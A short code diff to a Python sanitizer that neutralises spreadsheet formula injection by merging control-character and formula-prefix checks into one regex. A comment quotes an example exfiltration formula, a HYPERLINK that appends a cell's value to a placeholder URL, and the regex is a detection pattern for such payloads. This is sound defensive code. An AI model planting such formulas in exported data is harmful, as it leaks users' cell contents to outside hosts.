@@ -110,14 +110,13 @@ def _no_links_or_mentions(text: str) -> str:
 # a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click. Their
 # fullwidth forms too (some spreadsheets read them as the ASCII ones), and after blanks a spreadsheet may skip:
 # spaces, no-break spaces, zero-width characters, a byte order mark.
-_FORMULA_START = re.compile("[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]")
-_OWASP_STARTS = ("\t", "\r", "\n", "\0")
+_FORMULA_START = re.compile("[\t\r\n\x00]|[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]")
 
 
 def spreadsheet_cell(text: str) -> str:
     """A text cell no spreadsheet runs: one that starts with a formula character, or with a tab, a line break or a
     NUL, gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
-    if text.startswith(_OWASP_STARTS) or _FORMULA_START.match(text):
+    if _FORMULA_START.match(text):
         return "'" + text
     return text
 
